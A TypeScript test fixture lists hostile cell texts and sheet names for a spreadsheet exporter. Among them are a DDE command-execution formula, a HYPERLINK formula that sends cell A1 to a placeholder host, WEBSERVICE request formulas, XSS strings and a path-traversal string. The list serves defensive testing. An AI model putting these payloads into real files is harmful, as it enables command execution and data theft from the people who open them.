/** Texts that somebody may paste or send into a cell to make a program do what he wants, by what they try. */
export const hostileTexts: readonly (readonly [tries: string, text: string])[] = [
  ['a sum', '=1+1'], ['a plus', '+1+1'], ['a minus', '-1+1'], ['an at sign', '@SUM(A1:A9)'], ['a tab before a formula', '\t=1+1'], ['a line end before a formula', '\r=1+1'],
  ['a program by DDE', "=cmd|' /C calc'!A0"], ['a link out', '=HYPERLINK("http://may-chu.vn/?x="&A1,"Bấm vào đây")'], ['a request', '=WEBSERVICE("http://may-chu.vn")'], ['quotes that end a formula', '"&WEBSERVICE("http://may-chu.vn")&"'],
  ['a script', '<script>alert(1)</script>'], ['a picture with a script', '"><img src=x onerror=alert(1)>'], ['an address with a script', 'javascript:alert(1)'], ['XML', ']]></t><f>1+1</f><!-- &amp; &#0; -->'],
  ['nothing that is seen', '\u200B\u200C\u200D\uFEFF\u2060'], ['a name with letters in it that are not seen', 'Sở\u200B Tài\u00AD chính'], ['letters from right to left', '\u202EGNÒHP ỞS\u202C\u2066x\u2069'], ['half a sign', 'Sở \uD83D Tài'], ['the other half', '\uDE00x'],
  ['NUL', 'Sở\0Tài'], ['control characters', '\u0001\u0008\u000B\u000C\u001B[31m\u007F\u0085'], ['what is no character', '\uFFFE\uFFFF'], ['an escape of Excel', '_x0000_ _x003D_1+1'],
  ['the parent of all objects', '__proto__'], ['what makes objects', 'constructor'], ['a replacement', "$& $1 $` $' {name} {{name}} $1 %s"], ['a list separator', 'a,b;c|d\\e/f'], ['a name of a path', '../../../etc/passwd'], ['only marks', '\u0301\u0300\u0323'],
];

/** Names that a sheet may have; Excel itself refuses : \ / ? * [ ], History, a quote at an end and more than 31 signs. */
export const hostileSheetNames: readonly string[] = [
  "Phụ lục '1' A", 'Sở "Tài chính"', 'Phụ lục dài đúng ba mươi mốt ký', '📊 Phụ lục 😀', 'ملحق 2', '\u202EPL', '__proto__', 'constructor', 'toString', '=1+1', '+1', '-1', '@x', 'A1', 'R1C1', 'TRUE', '1', 'x!y', '<b onclick=x>', '&amp;', '$&', '{name}', 'a,b;c', ' PL', 'Lịch sử theo dõi', 'Báo cáo tổng hợp', 'Kết quả kiểm tra',
];
